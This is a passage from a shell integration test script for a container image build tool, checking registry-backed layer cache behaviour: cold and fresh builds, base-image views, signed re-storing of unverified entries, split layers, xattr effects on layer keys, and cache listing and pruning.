"$PI" build pad/spec.yaml --revision r --cache-dir d1 --push "$REG_HOST/team/ocr:1" --cache-to "$P" --json \
  >pcold.json 2>pcold.err || { cat pcold.err; exit 1; }
check "Paddle-shaped base, cold: the layer and the base's view are stored" js pcold.json \
  'c=j["registry_cache"]; assert c["stored"]==2 and c["warnings"]==[], c'
mkdir -p elsewhere && cp -r pad elsewhere/pad
before=$(registry_access_count "$REG_LOG" GET '/v2/paddlepaddle/paddle/blobs/')
"$PI" build elsewhere/pad/spec.yaml --revision r --cache-dir d2 --push "$REG_HOST/team/ocr2:1" --cache-from "$P" \
  --json >pfresh.json 2>pfresh.err || { cat pfresh.err; exit 1; }
after=$(registry_access_count "$REG_LOG" GET '/v2/paddlepaddle/paddle/blobs/')
check "... an empty runner: the base's view from the cache, the layer a hit, the cold digest" bash -c \
  "grep -q 'the file tree of base .* from the registry cache' pfresh.err &&
   test \"\$(statuses pfresh.json)\" = 'reused+cache' &&
   test \"\$(js pfresh.json 'print(j[\"digest\"])')\" = \"\$(js pcold.json 'print(j[\"digest\"])')\""
check "... one blob GET from the base's repository (the config), every base layer mounted" bash -c \
  "test $((after - before)) = 1 && js pfresh.json '
base=[l[\"digest\"] for l in j[\"layers\"] if l[\"kind\"]==\"base\"]
how={b[\"digest\"]: b[\"how\"] for b in j[\"registry\"][\"blobs\"]}
assert len(base)>=16 and all(how[d]==\"mounted from paddlepaddle/paddle\" for d in base), how'"
check "... under 1 MiB downloaded in all (config, view, records)" js pfresh.json \
  'r=j["registry"]; assert r["bytes_downloaded"] < 1048576, r["bytes_downloaded"]; print(r["bytes_downloaded"])'
# That runner's view came from an unverified entry: a signing writer on its cache makes
# the view again from the base's layers (and stores that one, signed), never the copy.
check "... the view taken from an unverified entry is marked so" bash -c "ls d2/base-view/*.unverified >/dev/null"
"$PI" build elsewhere/pad/spec.yaml --revision r --cache-dir d2 --push "$REG_HOST/team/ocr3:1" --cache-from "$P" \
  --cache-to "$REG_HOST/team/ocr/signed-cache" --cache-sign-key k1.key --json >psigned.json 2>psigned.err ||
  { cat psigned.err; exit 1; }
check "... a signing writer on that cache makes the view again and stores its own, signed (and the layer)" bash -c \
  "grep -q 'came from an unverified registry cache entry: made again' psigned.err &&
   ! ls d2/base-view/*.unverified >/dev/null 2>&1 &&
   js psigned.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]==2, c' &&
   test \"\$(js psigned.json 'print(j[\"digest\"])')\" = \"\$(js pcold.json 'print(j[\"digest\"])')\""

# ---- a split layer (spec split): each part an entry; a fresh runner gets every part ---
mkdir -p sp/models
python3 -c 'import random,sys; r=random.Random(5); [open(f"{sys.argv[1]}/w{i}.bin","wb").write(r.randbytes(600000)) for i in range(4)]' sp/models
printf 'split: 1Mi\nlayers:\n  - name: models\n    data: [{from: models/, to: /models/}]\n' >sp/spec.yaml
"$PI" build sp/spec.yaml --revision r --cache-dir cs1 -o oci:sp-lay:a --cache-to "$REG_HOST/team/split/cache" \
  --json >sp-cold.json 2>sp-cold.err || { cat sp-cold.err; exit 1; }
check "split: two parts built and stored, one entry each" js sp-cold.json \
  'assert [(l["part"], l["parts"], l["status"]) for l in j["layers"]]==[(1,2,"rebuilt"),(2,2,"rebuilt")], j["layers"]; assert j["registry_cache"]["stored"]==2, j["registry_cache"]'
cp -r sp sp2
"$PI" build sp2/spec.yaml --revision r --cache-dir cs2 -o oci:sp-lay:b --cache-from "$REG_HOST/team/split/cache" \
  --json >sp-fresh.json 2>sp-fresh.err || { cat sp-fresh.err; exit 1; }
check "split: a fresh runner takes both parts from the cache, same image" bash -c \
  "test \"\$(statuses sp-fresh.json)\" = 'reused+cache reused+cache' &&
   test \"\$(js sp-fresh.json 'print(j[\"digest\"])')\" = \"\$(js sp-cold.json 'print(j[\"digest\"])')\""

# ---- the content key holds what the tar records: xattrs ------------------------------
# A layer's tar records the xattrs of the base directories it lands on (not those of the
# source files: they are not copied). Two bases that differ only in an xattr of /app
# give the app layer other keys; a source file's xattr changes neither key nor bytes.
mkbase() { # DIR VALUE: an OCI layout whose one layer has /app with xattr user.tag=VALUE
  /usr/bin/python3 - "$1" "$2" <<'PY'
import gzip, hashlib, io, json, os, sys, tarfile
out, value = sys.argv[1], sys.argv[2]
os.makedirs(out + "/blobs/sha256", exist_ok=True)
def blob(data):
    d = hashlib.sha256(data).hexdigest()
    open(f"{out}/blobs/sha256/{d}", "wb").write(data)
    return {"digest": "sha256:" + d, "size": len(data)}
raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo("app"); ti.type = tarfile.DIRTYPE; ti.mode = 0o755; ti.mtime = 0
    ti.pax_headers = {"SCHILY.xattr.user.tag": value}
    t.addfile(ti)
tar = raw.getvalue()
gz = gzip.compress(tar, mtime=0)
layer = blob(gz); layer["mediaType"] = "application/vnd.oci.image.layer.v1.tar+gzip"
cfg = blob(json.dumps({"architecture": "amd64", "os": "linux", "config": {},
  "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(tar).hexdigest()]}}).encode())
cfg["mediaType"] = "application/vnd.oci.image.config.v1+json"
man = blob(json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": cfg, "layers": [layer]}).encode())
man["mediaType"] = "application/vnd.oci.image.manifest.v1+json"
man["annotations"] = {"org.opencontainers.image.ref.name": "v1"}
json.dump({"schemaVersion": 2, "manifests": [man]}, open(out + "/index.json", "w"))
open(out + "/oci-layout", "w").write('{"imageLayoutVersion": "1.0.0"}')
PY
}
mkbase xb-one one
mkbase xb-two two
mkdir -p xa/src && printf 'print(1)\n' >xa/src/main.py
printf 'image: {name: example.com/team/x, tags: [v1]}\nbase: oci:../xb-one:v1\nlayers:\n  - name: app\n    files: [{from: src/, to: /app/}]\n' >xa/spec.yaml
X=$REG_HOST/team/xattr/cache
"$PI" build xa/spec.yaml --revision r --cache-dir xc1 -o oci:xo1 --cache-to "$X" --json >x1.json 2>x1.err || { cat x1.err; exit 1; }
mkdir -p elsewhere && cp -r xa elsewhere/xb && sed -i 's|xb-one|xb-two|' elsewhere/xb/spec.yaml && cp -r xb-two elsewhere/xb-two
"$PI" build elsewhere/xb/spec.yaml --revision r --cache-dir xc2 -o oci:xo2 --cache-from "$X" --json >x2.json 2>x2.err ||
  { cat x2.err; exit 1; }
"$PI" build elsewhere/xb/spec.yaml --revision r --cache-dir xc3 -o oci:xo3 --json >x3.json 2>x3.err || { cat x3.err; exit 1; }
app_x() { js "$1" 'print([l["digest"] for l in j["layers"] if l["name"]=="app"][0])'; }
export -f app_x
check "a fresh runner whose base differs only in an xattr of /app: a miss, and the cold build's layer" bash -c \
  "test \"\$(js x2.json 'print([l[\"status\"] for l in j[\"layers\"] if l[\"name\"]==\"app\"][0])')\" = rebuilt &&
   test \"\$(app_x x2.json)\" = \"\$(app_x x3.json)\" && test \"\$(app_x x2.json)\" != \"\$(app_x x1.json)\" &&
   zcat xo2/blobs/sha256/\$(app_x x2.json | cut -c8-) | grep -qa 'SCHILY.xattr.user.tag=two'"
mkdir -p elsewhere/xc && cp -r xa/src xa/spec.yaml elsewhere/xc/ && sed -i 's|\.\./xb-one|../../xb-one|' elsewhere/xc/spec.yaml
/usr/bin/python3 -c 'import os,sys; os.setxattr(sys.argv[1], "user.note", b"only here")' elsewhere/xc/src/main.py
"$PI" build elsewhere/xc/spec.yaml --revision r --cache-dir xc4 -o oci:xo4 --cache-from "$X" --json >x4.json 2>x4.err ||
  { cat x4.err; exit 1; }
"$PI" build elsewhere/xc/spec.yaml --revision r --cache-dir xc5 -o oci:xo5 --json >x5.json 2>x5.err || { cat x5.err; exit 1; }
check "a source file's xattr (not copied into the tar): still a hit, and the cold build's layer" bash -c \
  "test \"\$(statuses x4.json)\" = 'reused+cache' && test \"\$(app_x x4.json)\" = \"\$(app_x x5.json)\" &&
   test \"\$(app_x x4.json)\" = \"\$(app_x x1.json)\""

# ---- cache ls / prune ------------------------------------------------------------------
check "cache ls lists the entries (kind, blob, size)" bash -c \
  "'$PI' cache ls $C --json >ls.json && js ls.json 'assert len(j[\"entries\"])>=4, j'"
check "cache prune --dry-run keeps what image :3 uses and lists the rest" bash -c \
  "'$PI' cache prune $C --keep $REG_HOST/team/app:3 --dry-run --json >pr.json &&
   js pr.json 'assert len(j[\"kept\"])==3 and len(j[\"deleted\"])>=1, j'"
check "cache prune deletes them (the registry allows deletes)" bash -c \
  "'$PI' cache prune $C --keep $REG_HOST/team/app:3 --json >pr2.json && '$PI' cache ls $C --json >ls2.json &&
   js ls2.json 'assert len(j[\"entries\"])==3, j'"
finish
